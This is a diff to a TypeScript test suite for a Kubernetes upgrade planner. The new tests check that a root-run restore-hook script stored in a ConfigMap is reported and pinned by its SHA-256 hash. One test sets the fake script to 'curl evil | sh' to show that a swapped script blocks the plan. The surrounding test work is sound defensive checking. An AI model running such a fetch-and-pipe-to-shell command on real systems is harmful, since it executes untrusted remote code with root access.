@@ -17,6 +17,7 @@ import type { Finding } from '../../src/upgrade/finding.ts';
 import { formatKubeVersion } from '../../src/upgrade/kube-version.ts';
 import type { ClusterNode } from '../../src/upgrade/node.ts';
 import { aBudget, aLedger, FROM, ME, staticPodsAt, TO, v } from '../support/builders.ts';
+import { FakeRestoreHook, HOOK_CONFIG_MAP, scriptOf } from '../support/fakes/restore-hook.ts';
 import { FakeAlerts } from '../support/fakes/alerts.ts';
 import { FakeClock } from '../support/fakes/clock.ts';
 import { FakeCluster } from '../support/fakes/cluster.ts';
@@ -46,6 +47,7 @@ describe('npm run plan', () => {
     ...{ compatibility: new FakeCompatibility(), deprecatedApis: new FakeDeprecatedApis(), files: new FakeNodeFiles() },
     ...{ nodeHealth: new FakeNodeHealth(), hosts: new FakeHostHealth(), kubeadm: new FakeKubeadm() },
     kured: new FakeKured(),
+    hook: new FakeRestoreHook(),
     ...{ rehearsal: new FakeRehearsal(), remote: new FakeRemote() },
   });
   let fakes = build();
@@ -90,6 +92,7 @@ describe('npm run plan', () => {
           hostHealth: fakes.hosts,
           kubeadm: fakes.kubeadm,
           kured: fakes.kured,
+          restoreHook: fakes.hook,
           clock,
         },
       },
@@ -110,6 +113,34 @@ describe('npm run plan', () => {
     const seen = await report();
     expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['clear', 0]);
     await golden('clear', seen);
+  });
+
+  it('shows which script of the cluster runs as root', async () => {
+    const { sha256 } = scriptOf('true\n');
+    fakes.hook.set('true\n');
+    const hook = `controlPlane: { restoreHook: { configMap: ${HOOK_CONFIG_MAP}, sha256: '${sha256}' } }\n`;
+    const seen = await report(`${CANARY}${hook}`);
+    expect(verdictOf(seen)).to.equal('clear');
+    expect(show(seen, plain)).to.include(
+      `\nRestore hook\n  on: ${HOOK_CONFIG_MAP}, SHA-256 ${sha256}, runs as root on each control-plane node\n`,
+    );
+    expect(toJson(seen)).to.deep.include({
+      restoreHook: { configMap: HOOK_CONFIG_MAP, sha256 },
+      unusedRestoreHook: null,
+    });
+    expect(show(seen, plain)).not.to.include('Restore hook\n  off');
+    fakes.hook.set('curl evil | sh');
+    expect(verdictOf(await report(`${CANARY}${hook}`))).to.equal('blocked');
+  });
+
+  it('says that the ConfigMap of release 0.1.0 does not run without the setting', async () => {
+    fakes.hook.set('true\n');
+    const seen = await report();
+    expect(verdictOf(seen)).to.equal('clear');
+    expect(show(seen, plain)).to.include(
+      `\nRestore hook\n  off: controlPlane.restoreHook is not set, so the script in ConfigMap ${HOOK_CONFIG_MAP} does not run. To run it, read it, then set controlPlane.restoreHook to this ConfigMap and to the SHA-256 that this prints: kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' | sha256sum\n`,
+    );
+    expect(toJson(seen)).to.deep.include({ restoreHook: null, unusedRestoreHook: HOOK_CONFIG_MAP });
   });
 
   it('shows everything that is in the way at once', async () => {
